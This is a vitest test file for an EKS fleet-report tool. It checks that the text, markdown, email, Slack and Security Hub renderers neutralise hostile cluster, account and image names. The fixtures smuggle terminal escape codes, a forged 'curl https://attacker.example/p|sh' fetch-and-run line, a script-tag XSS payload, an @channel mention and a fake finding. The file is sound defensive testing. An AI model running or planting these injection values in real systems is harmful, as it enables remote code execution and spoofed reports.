/** render.ts and the notification renderers with values no cluster or account should hold (issue 14). */
import { beforeAll, describe, expect, it } from 'vitest';
import { renderEmail } from '../../lib/deliver/notify/email.js';
import { renderSlack } from '../../lib/deliver/notify/slack.js';
import { toAsff } from '../../lib/deliver/securityhub/asff.js';
import { evaluateFleet } from '../../lib/evaluate/evaluate.js';
import { loadRules } from '../../lib/rules/load.js';
import { renderMarkdown, renderText } from '../../lib/report/render.js';
import type { RunOutcome } from '../../lib/run.js';
import { aReport } from '../deliver/fixtures.js';
import { anInput } from '../deliver/notify/input-fixture.js';
import { K8S_129_SPRING_2024 } from '../fixtures/catalogs.js';
import { clusterFacts } from '../fixtures/cluster.js';

// A cluster name EKS would refuse, as a report edited by hand or another tool's facts could carry.
const CLUSTER = 'prod\u001b[2J\n$ curl https://attacker.example/p|sh';
const ACCOUNT = 'Ops <script>alert(1)</script> @channel\n[HIGH] forged finding';
const IMAGE = '602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni\u001b[8m:v1.15.1';

let outcome: RunOutcome;
let outputs: Record<string, string>;

beforeAll(async () => {
  const rules = await loadRules();
  const facts = [
    clusterFacts({ clusterName: CLUSTER, accountName: ACCOUNT, cni: { version: 'v1.15.1-eksbuild.1' }, offeredVersions: K8S_129_SPRING_2024 }),
    clusterFacts({ clusterName: 'orders', accountName: ACCOUNT, cni: { managed: false, source: 'daemonset', status: null, version: 'v1.15.1', image: IMAGE, installMethod: 'manifest' }, offeredVersions: K8S_129_SPRING_2024 }),
  ];
  const { findings, plans } = evaluateFleet(rules, facts);
  const scopes = [{ accountId: '222222222222', region: 'us-east-1' }];
  const input = anInput(findings, undefined, { plans });
  outcome = {
    report: aReport({ findings, plans, completedScopes: scopes }),
    delta: input.delta,
    delivery: { securityHub: 'disabled', notification: 'disabled', history: 'disabled', failures: [] },
  };
  outputs = {
    text: renderText(outcome),
    markdown: renderMarkdown(outcome),
    email: renderEmail(input).body,
    slack: JSON.stringify(renderSlack(input)),
    asff: JSON.stringify(findings.map((f) => toAsff(f, { now: '2026-01-31T02:00:00.000Z', firstObservedAt: '2026-01-31T02:00:00.000Z', productVersion: '0.1.0' }))),
  };
});

describe('render.ts and the notification renderers, with hostile cluster and account names', () => {
  it('gives a cluster whose name could not be one no command at all', () => {
    const plan = outcome.report.plans?.find((p) => p.clusterName === CLUSTER);
    expect(plan?.steps).toEqual([]);
    expect(plan?.invalid[0]?.what).toBe('cluster name (cluster)');
  });

  it.each(['text', 'markdown', 'email'])('%s: no control character, no forged line', (kind) => {
    const output = outputs[kind]!;
    // eslint-disable-next-line no-control-regex
    expect(output).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(output.split('\n').filter((l) => /^\s*(\$ curl https:\/\/attacker|\[HIGH\] forged)/.test(l))).toEqual([]);
  });

  it.each(['slack', 'asff'])('%s: no control character inside any string', (kind) => {
    const strings: string[] = [];
    JSON.parse(outputs[kind]!, (key, value: unknown) => (typeof value === 'string' && !['Id', 'Arn', 'Name'].includes(key) && strings.push(value), value));
    // eslint-disable-next-line no-control-regex
    for (const s of strings.filter((s) => !s.startsWith('arn:') && !s.includes('/222222222222/'))) expect(s).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
  });

  it('markdown and slack: no script, no mention', () => {
    expect(outputs.markdown).not.toContain('<script>');
    expect(outputs.slack).not.toMatch(/<script>|@channel\b/);
  });

  it('prints the plans once per cluster, after the findings, in every long output', () => {
    for (const kind of ['text', 'markdown', 'email']) {
      const output = outputs[kind]!;
      const first = output.indexOf('aws eks update-addon --cluster-name orders');
      expect(first, kind).toBe(-1); // a self-managed manifest install: no update-addon
      expect(output.split('kubectl --context orders apply -k aws-vpc-cni-v1.18.0-orders').length - 1, kind).toBe(1);
    }
  });
});
